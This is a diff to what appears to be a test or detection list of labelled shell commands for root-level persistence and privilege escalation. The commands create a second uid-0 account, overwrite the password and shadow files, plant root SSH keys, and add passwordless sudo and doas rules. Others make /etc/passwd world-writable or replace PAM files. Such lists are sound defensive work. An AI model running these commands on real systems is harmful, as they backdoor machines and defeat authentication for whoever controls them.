@@ -1,13 +1,19 @@
 ## Second root account made
 useradd -o -u 0 -g 0 toor
 ## User database moved into place
-cp /etc/shadow /etc/x; mv /etc/x /etc/shadow
+cp /etc/passwd /etc/x; mv /etc/x /etc/passwd
 ## SSH authorized keys moved into place
 mkdir -p /root/.ssh; echo k > /root/k; mv /root/k /root/.ssh/authorized_keys
 ## Sudo rule moved into place
 mkdir -p /etc/sudoers.d; echo x > /etc/x; mv /etc/x /etc/sudoers.d/x
 ## Rule of doas or polkit written
 echo 'permit nopass ann' > /etc/doas.conf
+## Rule of doas or polkit moved into place
+echo 'permit nopass ann' > /etc/x; mv /etc/x /etc/doas.conf
+## User database opened to everybody
+chmod 666 /etc/passwd
+## Check of passwords moved into place
+mkdir -p /etc/pam.d; echo x > /etc/x; mv /etc/x /etc/pam.d/sshd
 ## Check of passwords changed
 echo x >> /etc/pam.d/other
 ## Configuration of the SSH server written
